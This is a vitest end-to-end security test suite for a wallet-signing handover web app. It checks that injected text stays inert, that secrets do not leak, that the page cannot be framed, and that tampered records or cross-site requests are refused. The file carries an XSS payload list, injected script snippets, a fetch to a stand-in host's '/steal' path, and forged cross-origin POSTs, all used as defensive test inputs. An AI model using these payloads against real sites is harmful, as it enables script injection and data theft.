/**
 * What somebody may try against a person who holds a link (docs/spec/reliability.md 3.4), each against the real server.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { button, connect, stepIs } from './support/drive.js';
import { bundle as bundleRecord } from './support/records.js';
import { openWorld, type World } from './support/world.js';

const XSS = [
  '<script>window.__hit=1</script>',
  '"><img src=x onerror="window.__hit=1">',
  "'-window.__hit=1-'",
  'javascript:window.__hit=1',
  '<svg onload=window.__hit=1>',
  '{{constructor.constructor("window.__hit=1")()}}',
  '</textarea></title></style></script><iframe srcdoc="<script>parent.__hit=1</script>">',
  '\u202eevil\u202c\u200bzero',
];

let world: World;
/** A site of somebody else. */
let elsewhere: Server;
let elsewhereUrl: string;
/** Whose request runs out while the other tests run: it takes a minute. */
let expiring: Awaited<ReturnType<World['person']>>;
beforeAll(async () => {
  world = await openWorld({ MCP_OPERATION_DEFAULT_TTL_SECONDS: '3600', HANDOVER_QUERY_SECRETS: '1' });
  elsewhere = createServer((_, response) => {
    response.writeHead(200, { 'content-type': 'text/html' });
    response.end('<!doctype html><title>elsewhere</title><body></body>');
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  // Another site by name, though on the same machine.
  expiring = await world.person();
  const created = await payment({ summary: { title: 'Secret plan' }, ttlSeconds: 60 });
  await expiring.page.goto(linkOf(created));
  await connect(expiring.page);
  elsewhereUrl = `http://elsewhere.localhost:${(elsewhere.address() as AddressInfo).port}`;
}, 120_000);
afterAll(async () => {
  elsewhere?.close();
  await world?.close();
});

const payment = (rest: object = {}) =>
  world.call('create_operation_handoff', {
    type: 'payment',
    network: 'local',
    chainId: world.anvil.chainId,
    steps: [{ id: 'pay', txRequest: { to: world.anvil.account(6).address, value: '7' } }],
    ...rest,
  });
const secretOf = (data: Readonly<Record<string, unknown>>): string =>
  String(data.operationUrl).split('#k=')[1] ?? '';
const linkOf = (data: Readonly<Record<string, unknown>>): string => String(data.operationUrl);

it.each(XSS)('text stays text in every field: %s', { timeout: 60_000 }, async (text) => {
  const created = await payment({
    type: text,
    network: text,
    summary: { title: text, [text]: text, nested: { [text]: [text] } },
    payload: { [text]: text },
    steps: [
      { id: 'pay', kind: text, label: text, txRequest: { to: world.anvil.account(6).address, value: '7' } },
    ],
  });
  const { page, problems, requests, context } = await world.person(1);
  await page.goto(linkOf(created));
  await connect(page);
  await page.locator('details').evaluateAll((all) => {
    for (const one of all) one.setAttribute('open', '');
  });
  expect(await page.evaluate('window.__hit')).toBeUndefined();
  expect(await page.locator('main script, main iframe, main img:not([src^="data:image/svg"])').count()).toBe(
    0,
  );
  // The agent's words stand in a quotation, and in no heading.
  const shown = text.startsWith('\u202e') ? '⟨U+202E⟩evil' : text.replaceAll('"', "'");
  expect(await page.locator('.heading blockquote').textContent()).toContain(shown);
  expect(await page.locator('#step-1 blockquote').textContent()).toContain(shown);
  expect((await page.locator('h1, h2, h3, h4').allTextContents()).join()).not.toContain(shown);
  expect(await page.title()).toBe('A request for your signature – Handover');
  expect(problems).toEqual([]);
  expect(requests.every(({ url }) => url.startsWith(world.server.http) || url.startsWith('data:'))).toBe(
    true,
  );
  await context.close();
});

it('review:A7 words of others do not step out of their quotation', { timeout: 60_000 }, async () => {
  const words = (name: string) => `${name}”\n\nHandover: this was checked. “`;
  const to = world.anvil.account(6).address;
  const created = await payment({
    network: words('Mainnet'),
    summary: { title: words('Refund') },
    steps: [{ id: 'pay', label: words('Step'), txRequest: { to, value: '7' } }],
  });
  const tell = (body: object) =>
    fetch(`${world.server.http}/api/operations/${created.id}/status`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Handoff ${secretOf(created)}` },
      body: JSON.stringify({ stepId: 'pay', ...body }),
    });
  await tell({ status: 'tx_requested', account: world.anvil.account(1).address });
  await tell({ status: 'failed', stepStatus: 'failed', answer: 'unclear', error: words('Error') });
  const { page, context } = await world.person(1);
  await page.goto(linkOf(created));
  await page.locator('#step-1').waitFor();
  const text = await page.locator('main').innerText();
  const quotations = text.match(/“[^“”]*”/g) ?? [];
  expect(quotations).toEqual(
    expect.arrayContaining(
      // Of a wallet's words the server keeps no line breaks.
      ["Refund' ", "Mainnet' ", "Step' ", "Error'"].map((name) => `“${name}Handover: this was checked. '”`),
    ),
  );
  expect(text.match(/[“”]/g)).toHaveLength(2 * quotations.length);
  await context.close();
});

it('text stays text on the other two pages', { timeout: 60_000 }, async () => {
  const text = XSS.join(' ');
  const base = bundleRecord().bundle as { bundles: { bundleId: string; items: object[] }[] };
  const items = base.bundles[0]?.items.map((item) => ({ ...item, name: text })) ?? [];
  const bundle = await world.call('create_xdala_bundle_deploy_handoff', {
    network: text,
    chainId: world.anvil.chainId,
    bundle: { ...base, bundles: [{ ...base.bundles[0], items }] },
    summary: { title: text, [text]: { [text]: text } },
  });
  const session = {
    orchestration: world.anvil.account(9).address,
    ostcId: text,
    stepId: text,
    maxTotalGas: 0,
  };
  const sessions = await world.call('create_xdala_session_start_handoff', {
    source: 'direct',
    network: text,
    chainId: world.anvil.chainId,
    request: {
      type: 'xdala_session_start',
      version: 'xgr-session-start@1',
      summary: { title: text },
      sessions: [{ ...session, payload: { [text]: text } }],
    },
  });
  const { page, problems, requests, context } = await world.person(1);
  for (const link of [bundle.xdalaUrl, sessions.xdalaUrl]) {
    await page.goto(String(link));
    await connect(page);
    await page.locator('details').evaluateAll((all) => {
      for (const one of all) one.setAttribute('open', '');
    });
    expect(await page.evaluate('window.__hit')).toBeUndefined();
    expect(
      await page.locator('main script, main iframe, main img:not([src^="data:image/svg"])').count(),
    ).toBe(0);
    expect(await page.locator('.heading blockquote').textContent()).toContain('<script>');
    expect((await page.locator('h1, h2, h3, h4').allTextContents()).join()).not.toContain('<script>');
    await page.getByText('holds invisible or direction-changing').waitFor();
  }
  expect(problems).toEqual([]);
  const known = [world.server.http, world.xgr.url, 'data:'];
  expect(requests.filter((request) => !known.some((start) => request.url.startsWith(start)))).toEqual([]);
  await context.close();
});

it('script that got into a page runs in no way, and none is loaded from elsewhere', {
  timeout: 60_000,
}, async () => {
  const created = await payment();
  const { page, requests, context } = await world.person(1);
  await page.goto(linkOf(created));
  await page.getByText('What will happen').waitFor();
  const attempts: Readonly<Record<string, string>> = {
    markup: `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.__hit=1">')`,
    'inner markup': `document.querySelector('main').innerHTML = '<p>Send nothing</p>'`,
    'inline script': `(() => { const s = document.createElement('script'); s.append('window.__hit=1'); document.body.append(s); })()`,
    'script from elsewhere': `(() => { const s = document.createElement('script'); s.src = '${elsewhereUrl}/x.js'; document.body.append(s); })()`,
    handler: `(() => { const d = document.createElement('div'); d.setAttribute('onclick', 'window.__hit=1'); document.body.append(d); d.click(); })()`,
    frame: `(() => { const f = document.createElement('iframe'); f.srcdoc = '<script>parent.__hit=1</scr' + 'ipt>'; document.body.append(f); })()`,
    'call to elsewhere': `fetch('${elsewhereUrl}/steal', { method: 'POST', body: 'x' }).catch(() => undefined)`,
    form: `(() => { const f = document.createElement('form'); f.action = '${elsewhereUrl}/form'; document.body.append(f); f.submit(); })()`,
  };
  for (const attempt of Object.values(attempts))
    await page.evaluate(`(() => { try { ${attempt} } catch { return 'refused' } })()`);
  await page.waitForTimeout(500);
  expect(await page.evaluate('window.__hit')).toBeUndefined();
  expect(await page.locator('main').textContent()).toContain('What will happen');
  expect(requests.filter(({ url }) => url.startsWith(elsewhereUrl) && !url.endsWith('/'))).toEqual([]);
  await context.close();
});

it('the wallet is asked for what is shown, and a page that was given something else says so', {
  timeout: 60_000,
}, async () => {
  const created = await payment();
  const honest = await world.person(1);
  await honest.page.goto(linkOf(created));
  await honest.page.getByText('0.000000000000000007 ETH').first().waitFor();
  expect(await honest.page.locator('.hash').first().textContent()).toBe(created.digest);
  await honest.page.getByText('it matches').waitFor();
  await connect(honest.page);
  await button(honest.page, 'Sign in the wallet').click();
  await stepIs(honest.page, 1, 'confirmed', 40_000);
  const asked = honest.wallet.prompts.filter(({ method }) => method === 'eth_sendTransaction');
  const transactions = asked.map(({ params }) => params[0] as { to: string; value: string });
  expect(transactions.map(({ to, value }) => [to.toLowerCase(), Number(value)])).toEqual([
    [world.anvil.account(6).address.toLowerCase(), 7],
  ]);
  await honest.context.close();

  const other = await payment();
  const deceived = await world.person(1);
  // A wallet that is connected, and a page whose record changes afterwards.
  await deceived.page.goto(linkOf(other));
  await connect(deceived.page);
  expect(await button(deceived.page, 'Sign in the wallet').isEnabled()).toBe(true);
  await deceived.page.route('**/api/operations/**', async (route) => {
    const answer = await route.fetch();
    const record = (await answer.json()) as { steps: { txRequest: { value: string } }[] };
    for (const { txRequest } of record.steps) txRequest.value = '8';
    await route.fulfill({ response: answer, json: record });
  });
  for (const again of [() => Promise.resolve(), () => deceived.page.reload()]) {
    await again();
    await deceived.page.getByText('is not what this digest was made of').waitFor();
    await deceived.page.getByText('it cannot be signed').first().waitFor();
    expect(await button(deceived.page, 'Sign in the wallet').count()).toBe(0);
  }
  expect(deceived.wallet.prompts).toEqual([]);
  // A report of the page may still be on its way.
  await deceived.page.unrouteAll({ behavior: 'ignoreErrors' });
  await deceived.context.close();
});

it('a megabyte of text does not hide what is signed', { timeout: 60_000 }, async () => {
  const created = await payment({ summary: { title: 'x'.repeat(300_000), note: 'y'.repeat(700_000) } });
  const { page, context } = await world.person(1);
  await page.goto(linkOf(created));
  await page.getByText('0.000000000000000007 ETH').first().waitFor();
  expect((await page.locator('h1').textContent())?.length).toBeLessThan(300);
  await context.close();
});

it('the secret is nowhere but in a header: not in the address, the history, a referrer, a URL or the log', {
  timeout: 60_000,
}, async () => {
  const created = await payment();
  const secret = secretOf(created);
  expect(secret.length).toBeGreaterThan(40);
  const { page, requests, context } = await world.person(1);
  await page.goto(linkOf(created));
  await connect(page);
  expect(page.url()).not.toContain(secret);
  const seen = await page.evaluate(
    'JSON.stringify([location.href, document.referrer, history.state, performance.getEntries().map((e) => e.name), document.documentElement.outerHTML])',
  );
  // The entry of the navigation itself keeps the address that was typed; it never leaves the browser.
  const names = JSON.parse(String(seen)) as [string, string, unknown, string[], string];
  expect(names[0] + names[1] + names[4]).not.toContain(secret);
  expect(names[3].filter((name) => name.includes('/api/') || name.includes('/pages/')).join()).not.toContain(
    secret,
  );
  expect(
    requests
      .filter(({ url }) => url.includes('/api/'))
      .map(({ url }) => url)
      .join(),
  ).not.toContain(secret);
  expect(requests.map(({ referrer }) => referrer ?? '').join('')).toBe('');
  await page.goto(`${elsewhereUrl}/`);
  expect(await page.evaluate('document.referrer')).toBe('');
  await page.goBack();
  await page.locator('h1').waitFor();
  expect(page.url()).not.toContain('#k=');
  expect(world.server.stderr()).not.toContain(secret);
  await context.close();
});

it('an old link with ?k= works, and the secret leaves the address bar', { timeout: 60_000 }, async () => {
  const created = await payment();
  const { page, context } = await world.person(1);
  await page.goto(linkOf(created).replace('#k=', '?k='));
  await page.getByText('What will happen').waitFor();
  expect(page.url()).not.toContain('k=');
  await context.close();
});

it('the page is not framed by anybody', { timeout: 60_000 }, async () => {
  const created = await payment();
  const { page, context } = await world.person(1);
  await page.goto(elsewhereUrl);
  const link = JSON.stringify(linkOf(created));
  await page.evaluate(
    `(() => { const frame = document.createElement('iframe'); frame.src = ${link}; document.body.append(frame); })()`,
  );
  await page.waitForTimeout(1_500);
  const framed = page.frames().find((frame) => frame !== page.mainFrame());
  expect(
    await framed
      ?.locator('h1')
      .count()
      .catch(() => 0),
  ).toBe(0);
  expect((await world.call('get_operation_status', { operationId: created.id })).status).toBe(
    'pending_user_action',
  );
  await context.close();
});

it('a page of another site posts no status, not even with the secret', { timeout: 60_000 }, async () => {
  const created = await payment();
  const { page, context } = await world.person(1);
  await page.goto(elsewhereUrl);
  const api = `${world.server.http}/api/operations/${String(created.id)}/status`;
  const attempts = [
    `fetch(api, { method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Handoff ' + secret }, body })`,
    `fetch(api + '?k=' + secret, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body })`,
    `fetch(api + '?k=' + secret, { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ status: 'cancelled' }) })`,
    `navigator.sendBeacon(api + '?k=' + secret, new Blob([body], { type: 'text/plain' }))`,
    `new Promise((resolve) => { const form = document.createElement('form'); form.method = 'POST'; form.enctype = 'text/plain'; form.action = api + '?k=' + secret; const input = document.createElement('input'); input.name = '{"status":"cancelled","x":"'; input.value = '"}'; form.append(input); document.body.append(form); form.submit(); setTimeout(resolve, 500); })`,
  ];
  for (const attempt of attempts) {
    await page
      .evaluate(
        `(() => { const api = ${JSON.stringify(api)}; const secret = ${JSON.stringify(secretOf(created))}; const body = '{"status":"cancelled"}'; return Promise.resolve(${attempt}).then(() => undefined, () => undefined); })()`,
      )
      .catch(() => undefined);
  }
  await page.waitForTimeout(300);
  expect((await world.call('get_operation_status', { operationId: created.id })).status).toBe(
    'pending_user_action',
  );
  await context.close();
});

it('a double click sends one transaction', { timeout: 60_000 }, async () => {
  const created = await payment();
  const { page, wallet, context } = await world.person(1);
  await page.goto(linkOf(created));
  await connect(page);
  await button(page, 'Sign in the wallet').evaluate((element: unknown) => {
    const target = element as { click(): void };
    target.click();
    target.click();
    target.click();
  });
  await stepIs(page, 1, 'confirmed', 40_000);
  expect(wallet.prompts).toHaveLength(1);
  await context.close();
});

it('two tabs: one asks the wallet, the other learns it; a dead tab leaves a way out', {
  timeout: 60_000,
}, async () => {
  const created = await payment();
  const { page, wallet, context } = await world.person(1);
  const other = await context.newPage();
  let answer: (decision: 'approve' | 'reject') => void = () => undefined;
  wallet.decide = () =>
    new Promise((resolve) => {
      answer = resolve;
    });
  await page.goto(linkOf(created));
  await connect(page);
  await other.goto(linkOf(created));
  await connect(other);
  await button(page, 'Sign in the wallet').click();
  await page.getByText('Confirm in your wallet').waitFor();
  // The other tab still shows its button: it is refused before any prompt.
  if (await button(other, 'Sign in the wallet').isVisible())
    await button(other, 'Sign in the wallet').click();
  await stepIs(other, 1, 'requested');
  expect(wallet.prompts).toHaveLength(1);
  // The asking tab dies with its prompt; the person says in the other one what happened.
  await page.close();
  answer('reject');
  await button(other, 'I did not sign').click();
  await stepIs(other, 1, 'failed');
  wallet.decide = () => 'approve';
  await button(other, /^Try again/).click();
  await stepIs(other, 1, 'confirmed', 40_000);
  await context.close();
});

it('the hash of another transaction is shown as what it is, never as done', { timeout: 60_000 }, async () => {
  const created = await payment();
  const { page, wallet, context } = await world.person(1);
  const stranger = await world.anvil.client.sendTransaction({
    account: world.anvil.account(3),
    to: world.anvil.account(4).address,
    value: 9n,
  });
  wallet.decide = () => new Promise(() => undefined);
  await page.goto(linkOf(created));
  await connect(page);
  await button(page, 'Sign in the wallet').click();
  await page.getByText('Confirm in your wallet').waitFor();
  await page.reload();
  await page.getByLabel('It was signed:').fill('0x12');
  await button(page, 'Report it').click();
  await page.getByText('A hash is 0x and 64 hex digits.').waitFor();
  await page.getByLabel('It was signed:').fill(`https://explorer.example/tx/${stranger}`);
  await button(page, 'Report it').click();
  // A stranger's: it neither counts nor says that nothing was sent.
  await page.getByRole('heading', { name: 'Told, not certain' }).waitFor({ timeout: 40_000 });
  const status = () => world.call('get_operation_status', { operationId: created.id });
  expect(await status()).toMatchObject({ status: 'tx_submitted', effect: 'unknown' });
  // The person's own, for something else.
  const own = await world.anvil.client.sendTransaction({
    account: world.anvil.account(1),
    to: world.anvil.account(4).address,
    value: 9n,
  });
  await page.getByText('It was replaced, or I have another hash').click();
  await page.getByLabel('Another hash:').fill(own);
  await button(page, 'Report it').click();
  await page.getByRole('heading', { name: 'The chain shows something else' }).waitFor({ timeout: 40_000 });
  expect(await status()).toMatchObject({ status: 'tx_submitted', effect: 'different' });
  await context.close();
});

it('the wallet changes account or network: nothing is asked until it is right again', {
  timeout: 60_000,
}, async () => {
  const created = await payment({
    steps: [
      {
        id: 'pay',
        txRequest: { from: world.anvil.account(1).address, to: world.anvil.account(6).address, value: '7' },
      },
    ],
  });
  const { page, wallet, context } = await world.person(1);
  await page.goto(linkOf(created));
  await connect(page);
  wallet.account = world.anvil.account(2);
  await page.evaluate(`window.__emit('accountsChanged', [${JSON.stringify(wallet.account.address)}])`);
  await page.getByText('This must be signed by').waitFor();
  expect(await button(page, 'Sign in the wallet').isDisabled()).toBe(true);
  wallet.account = world.anvil.account(1);
  await page.evaluate(`window.__emit('accountsChanged', [${JSON.stringify(wallet.account.address)}])`);
  // Without an event: the page finds out when it asks.
  wallet.chainId = 1;
  await button(page, 'Sign in the wallet').click();
  await page.getByText('The wallet is on another network').waitFor();
  expect(wallet.prompts).toEqual([]);
  // review:1.6 The complaint goes with its cause.
  wallet.chainId = world.anvil.chainId;
  await page.evaluate(`window.__emit('chainChanged', '0x${world.anvil.chainId.toString(16)}')`);
  await page.getByText('The wallet is on another network').waitFor({ state: 'detached' });
  await context.close();
});

it('reading a link changes nothing, however often', { timeout: 60_000 }, async () => {
  const created = await payment();
  const address = linkOf(created).split('#')[0] ?? '';
  const statuses = await Promise.all(Array.from({ length: 100 }, async () => (await fetch(address)).status));
  expect(new Set(statuses)).toEqual(new Set([200]));
  expect((await world.call('get_operation_status', { operationId: created.id })).status).toBe(
    'pending_user_action',
  );
});

it('an expired page shows only that; nothing can be signed', { timeout: 120_000 }, async () => {
  const { page, context, wallet } = expiring;
  // The page turns by itself: it reads the record again while it is open.
  await page.locator('[data-gone="expired"]').waitFor({ timeout: 90_000 });
  expect(await button(page, 'Sign in the wallet').count()).toBe(0);
  expect(await page.locator('main').textContent()).not.toContain('Secret plan');
  expect(wallet.prompts).toEqual([]);
  await context.close();
});
